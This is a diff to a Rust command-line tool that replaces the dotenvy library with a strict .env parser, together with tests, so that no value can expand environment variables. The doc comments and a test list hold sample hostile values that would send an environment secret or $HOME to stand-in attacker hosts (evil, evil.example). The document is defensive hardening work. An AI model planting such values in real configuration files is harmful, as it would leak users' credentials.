@@ -89,65 +89,179 @@ impl Env {
     }
 }
 
-/// The `.env` syntax dotenvy reads (`KEY=VALUE`, `#` comments, optional
-/// `export `, single or double quotes), taken as values: dotenvy's iterator,
-/// never its `load`, which would write into the process environment.
+/// A `.env` file's variables, read strictly and taken as values: nothing
+/// is expanded from the environment, nothing is written into it.
 ///
-/// dotenvy also replaces `$VAR` and `${VAR}` in unquoted and double-quoted
-/// values with the environment's values. A `.env` file in a cloned
-/// directory could then carry a secret of the environment out in a URL
-/// (`CSP_DISCOVERY_URL=https://evil/?k=${AWS_SECRET_ACCESS_KEY}`), so such
-/// a value is refused; single quotes keep a `$` literally.
+/// Each line is blank, a `#` comment, or `KEY=VALUE`, optionally after
+/// `export `; KEY is letters, digits, `_` and `.`, not starting with a
+/// digit or `.`. VALUE is on its line and is one of:
+/// - nothing, or only a comment after whitespace: empty (the default);
+/// - bare: no whitespace, quote, `\` or `$`, not starting with `#`;
+/// - in single quotes: every character as written, `$` included;
+/// - in double quotes: `\\`, `\"`, `\'`, `\$`, `\ ` and `\n` are escapes,
+///   and a `$` is refused;
+///
+/// and only whitespace and a `# comment` may follow it. Anything else is
+/// refused naming the line (never quoting it: it may hold a secret).
+///
+/// Earlier versions read `.env` with dotenvy, which replaces `$VAR` and
+/// `${VAR}` outside single quotes with the environment's values, and a
+/// check in front of it read the lines differently (a value continued on a
+/// second line, text after a closing single quote): a `.env` in a cloned
+/// directory could copy a secret of the environment into a URL that
+/// `login` fetches. A `$` outside single quotes is therefore refused, not
+/// kept: a file written for dotenvy never silently means something else.
 fn parse_dotenv(bytes: &[u8]) -> Result<HashMap<String, String>, CliError> {
-    refuse_substitution(bytes)?;
+    let text = std::str::from_utf8(bytes).map_err(|e| {
+        let line = bytes[..e.valid_up_to()]
+            .iter()
+            .filter(|b| **b == b'\n')
+            .count();
+        refused(line + 1, None, Refusal::NotUtf8)
+    })?;
     let mut out = HashMap::new();
-    for item in dotenvy::from_read_iter(bytes) {
-        let (key, value) = item.map_err(|e| {
-            // The message never quotes the line: it may hold a secret.
-            let what = match e {
-                dotenvy::Error::LineParse(..) => format!(
-                    "a line after the {} variable(s) read so far is not KEY=VALUE (or a quote is not closed)",
-                    out.len()
-                ),
-                dotenvy::Error::Io(e) => e.to_string(),
-                _ => "it is not valid".to_owned(),
-            };
-            CliError::usage("config", format!("cannot read the .env file: {what}")).hint(
-                "write one KEY=VALUE per line; quote values with spaces or `#`, e.g. CSP_SCOPES=\"openid email\"",
-            )
-        })?;
-        out.insert(key, value);
+    for (n, line) in text.split('\n').enumerate() {
+        if let Some((key, value)) =
+            parse_line(line).map_err(|(key, why)| refused(n + 1, key, why))?
+        {
+            out.insert(key.to_owned(), value);
+        }
     }
     Ok(out)
 }
 
-/// Refuses a value that dotenvy would expand from the environment: a `$`
-/// outside single quotes. Read line by line, conservatively (a continuation
-/// line of a multi-line value that looks like `KEY=…$…` is refused too).
-fn refuse_substitution(bytes: &[u8]) -> Result<(), CliError> {
-    let text = String::from_utf8_lossy(bytes);
-    for line in text.lines() {
-        let line = line.trim_start();
-        if line.starts_with('#') {
-            continue;
+/// Why a `.env` line is refused.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Refusal {
+    NotUtf8,
+    NotKeyValue,
+    Dollar,
+    Unclosed,
+    AfterValue,
+    Escape,
+    Bare,
+}
+
+fn refused(line: usize, key: Option<&str>, why: Refusal) -> CliError {
+    let of = key.map_or_else(String::new, |k| format!(" of {}", escape(k)));
+    let what = match why {
+        Refusal::NotUtf8 => "it is not UTF-8".to_owned(),
+        Refusal::NotKeyValue => {
+            "it is not KEY=VALUE (KEY: letters, digits and `_`), a `#` comment or blank".to_owned()
         }
-        let line = line.strip_prefix("export ").unwrap_or(line);
-        let Some((name, value)) = line.split_once('=') else {
-            continue;
-        };
-        let value = value.trim_start();
-        if !value.starts_with('\'') && value.contains('$') {
-            return Err(CliError::usage(
-                "config",
-                format!(
-                    "the .env file's value of {} contains `$`, which would be replaced by a variable of the environment",
-                    crate::term::escape(name.trim())
-                ),
+        Refusal::Dollar => format!(
+            "the value{of} contains `$` outside single quotes (.env values are never expanded from the environment)"
+        ),
+        Refusal::Unclosed => format!(
+            "the value{of} opens a quote it does not close on the same line (a value is one line)"
+        ),
+        Refusal::AfterValue => {
+            format!(
+                "the value{of} is followed by more than a `# comment` (or has a space outside quotes)"
             )
-            .hint("put the value in single quotes to keep a `$` as it is, e.g. NAME='a$b'"));
+        }
+        Refusal::Escape => format!(
+            "the value{of} has a `\\` escape other than \\\\, \\\", \\', \\$, \\ (space) and \\n"
+        ),
+        Refusal::Bare => {
+            format!("the value{of} is not quoted and holds a quote or `\\`, or starts with `#`")
+        }
+    };
+    // The message never quotes the line: it may hold a secret.
+    let err = CliError::usage(
+        "config",
+        format!("cannot read the .env file in the working directory, line {line}: {what}"),
+    );
+    if why == Refusal::Dollar {
+        err.hint("put the value in single quotes to keep a `$` as it is, e.g. NAME='a$b'")
+    } else {
+        err.hint(
+            "write one KEY=VALUE per line; quote values with spaces or `#`, e.g. CSP_SCOPES=\"openid email\"",
+        )
+    }
+}
+
+/// A line's key and value.
+type Variable<'a> = (&'a str, String);
+/// Why a line is refused, with its key when it has one.
+type LineRefusal<'a> = (Option<&'a str>, Refusal);
+
+/// One line: `None` when blank or a comment.
+fn parse_line(line: &str) -> Result<Option<Variable<'_>>, LineRefusal<'_>> {
+    let line = line.trim();
+    if line.is_empty() || line.starts_with('#') {
+        return Ok(None);
+    }
+    let line = match line.strip_prefix("export") {
+        Some(rest) if rest.starts_with(char::is_whitespace) => rest.trim_start(),
+        _ => line,
+    };
+    let end = line
+        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
+        .unwrap_or(line.len());
+    let (key, rest) = line.split_at(end);
+    let value = rest.trim_start().strip_prefix('=');
+    let (Some(value), Some(first)) = (value, key.chars().next()) else {
+        return Err((None, Refusal::NotKeyValue));
+    };
+    if first.is_ascii_digit() || first == '.' {
+        return Err((None, Refusal::NotKeyValue));
+    }
+    let value = parse_value(value).map_err(|why| (Some(key), why))?;
+    Ok(Some((key, value)))
+}
+
+/// What follows `=`, up to the end of the line (trailing whitespace gone).
+fn parse_value(after: &str) -> Result<String, Refusal> {
+    // only a comment, after whitespace, may follow the value
+    let comment_or_nothing = |tail: &str| {
+        let rest = tail.trim_start();
+        rest.is_empty() || (rest.len() < tail.len() && rest.starts_with('#'))
+    };
+    if comment_or_nothing(after) {
+        return Ok(String::new());
+    }
+    let after = after.trim_start();
+    let (value, tail) = if let Some(body) = after.strip_prefix('\'') {
+        let end = body.find('\'').ok_or(Refusal::Unclosed)?;
+        (body[..end].to_owned(), &body[end + 1..])
+    } else if let Some(body) = after.strip_prefix('"') {
+        double_quoted(body)?
+    } else {
+        let (bare, tail) = after.split_at(after.find(char::is_whitespace).unwrap_or(after.len()));
+        if bare.contains('$') {
+            return Err(Refusal::Dollar);
+        }
+        if bare.starts_with('#') || bare.contains(['\'', '"', '\\']) {
+            return Err(Refusal::Bare);
+        }
+        (bare.to_owned(), tail)
+    };
+    if comment_or_nothing(tail) {
+        Ok(value)
+    } else {
+        Err(Refusal::AfterValue)
+    }
+}
+
+/// A double-quoted value after its opening quote: the value and what
+/// follows the closing quote.
+fn double_quoted(body: &str) -> Result<(String, &str), Refusal> {
+    let mut value = String::new();
+    let mut chars = body.char_indices();
+    while let Some((i, c)) = chars.next() {
+        match c {
+            '"' => return Ok((value, &body[i + 1..])),
+            '$' => return Err(Refusal::Dollar),
+            '\\' => match chars.next() {
+                Some((_, e @ ('\\' | '"' | '\'' | '$' | ' '))) => value.push(e),
+                Some((_, 'n')) => value.push('\n'),
+                _ => return Err(Refusal::Escape),
+            },
+            c => value.push(c),
         }
     }
-    Ok(())
+    Err(Refusal::Unclosed)
 }
 
 #[cfg(test)]
@@ -200,6 +314,124 @@ mod tests {
         assert_eq!((err.exit, err.code), (2, "config"));
         assert!(!err.message.contains("s3cret"), "{}", err.message);
         assert!(err.hint.is_some());
+    }
+
+    /// Review S14: the ways around the check that stood in front of
+    /// dotenvy (a value continued after its closing single quote, a
+    /// double-quoted value continued on a second line, which may look like
+    /// a comment) are refused, as is every other `$` outside single quotes.
+    #[test]
+    fn no_form_of_value_can_expand_the_environment() {
+        for hostile in [
+            "CSP_DISCOVERY_URL='https://evil/'${HOME}'/.well-known/openid-configuration'\n",
+            "AGENT_PASSPORT_ISSUER='https://evil.example/?k='$HOME\n",
+            "AGENT_PASSPORT_ISSUER=\"https://evil.example/?k\n${HOME}\"\n",
+            "AGENT_PASSPORT_ISSUER=\"https://evil.example/?k\n#${HOME}\"\n",
+            "AGENT_PASSPORT_ISSUER='https://evil.example/?k\n${HOME}'\n",
+            "AGENT_PASSPORT_ISSUER=\"https://evil.example/?k\\\n${HOME}\"\n",
+            "AGENT_PASSPORT_ISSUER=\"https://evil.example/\"$HOME\n",
+            "AGENT_PASSPORT_ISSUER=https://evil.example/'$HOME'\n",
+            "AGENT_PASSPORT_ISSUER=https://evil.example/\\$HOME\n",
+        ] {
+            let err = parse_dotenv(hostile.as_bytes()).unwrap_err();
+            assert_eq!((err.exit, err.code), (2, "config"), "{hostile:?}");
+            assert!(
+                err.message.contains("line 1:"),
+                "{hostile:?}: {}",
+                err.message
+            );
+            assert!(
+                !err.message.contains("evil"),
+                "{hostile:?}: {}",
+                err.message
+            );
+        }
+        let err = parse_dotenv(b"A=1\n\n# $HOME\nB=\"x$HOME\"\n").unwrap_err();
+        assert!(err.message.contains("line 4:"), "{}", err.message);
+        assert!(
+            err.message.contains("value of B contains `$`"),
+            "{}",
+            err.message
+        );
+        assert!(err.hint.unwrap().contains("single quotes"));
+    }
+
+    /// Every form the README documents (quotes, `# comments`, `export`)
+    /// and dotenvy read without expanding anything reads the same.
+    #[test]
+    fn every_documented_form_is_read_as_before() {
+        let env = parse_dotenv(
+            concat!(
+                "# comment\n",
+                "\n",
+                "   # an indented comment with $HOME\n",
+                "CSP_CLIENT_ID=abc\n",
+                "export CSP_SCOPES=\"openid email\"\n",
+                "CSP_CLIENT_SECRET='a$b \"c\" #d\\n'\n",
+                "CSP_ACR_MAPPING=\"C:\\\\acr.toml\" # a comment\n",
+                "AGENT_PASSPORT_ISSUER=https://x.example/a#b\n",
+                "EMPTY=\n",
+                "COMMENTED= # nothing\n",
+                "ESCAPED=\"a\\\"b\\$c\\nd\\'e\\ f\"\n",
+                "CRLF=v\r\n",
+                "  SPACED = 'x'  \n",
+                "export=1\n",
+                "A.B_2=3",
+            )
+            .as_bytes(),
+        )
+        .unwrap();
+        for (key, value) in [
+            ("CSP_CLIENT_ID", "abc"),
+            ("CSP_SCOPES", "openid email"),
+            ("CSP_CLIENT_SECRET", "a$b \"c\" #d\\n"),
+            ("CSP_ACR_MAPPING", "C:\\acr.toml"),
+            ("AGENT_PASSPORT_ISSUER", "https://x.example/a#b"),
+            ("EMPTY", ""),
+            ("COMMENTED", ""),
+            ("ESCAPED", "a\"b$c\nd'e f"),
+            ("CRLF", "v"),
+            ("SPACED", "x"),
+            ("export", "1"),
+            ("A.B_2", "3"),
+        ] {
+            assert_eq!(env.get(key).map(String::as_str), Some(value), "{key}");
+        }
+        assert_eq!(env.len(), 12);
+    }
+
+    /// What is neither: refused, naming the line, never quoting it.
+    #[test]
+    fn anything_else_is_refused_naming_its_line() {
+        for broken in [
+            "KEY=#s3cret",
+            "KEY=s3cret more",
+            "KEY='s3cret'more",
+            "KEY=\"s3cret\"more",
+            "KEY=\"s3cret",
+            "KEY='s3cret",
+            "KEY=\"s3\\cret\"",
+            "KEY=s3\\cret",
+            "KEY=s3\"cret",
+            "1KEY=s3cret",
+            ".KEY=s3cret",
+            "KEY s3cret",
+            "export KEY",
+            "=s3cret",
+            "KEY-X=s3cret",
+        ] {
+            let err = parse_dotenv(format!("A=1\n{broken}\n").as_bytes()).unwrap_err();
+            assert_eq!((err.exit, err.code), (2, "config"), "{broken}");
+            assert!(err.message.contains("line 2:"), "{broken}: {}", err.message);
+            assert!(!err.message.contains("s3cret"), "{broken}: {}", err.message);
+            assert!(err.hint.unwrap().contains("KEY=VALUE"), "{broken}");
+        }
+        let err = parse_dotenv(b"A=1\nB=\xff\n").unwrap_err();
+        assert!(
+            err.message.contains("line 2: it is not UTF-8"),
+            "{}",
+            err.message
+        );
     }
 
     #[test]
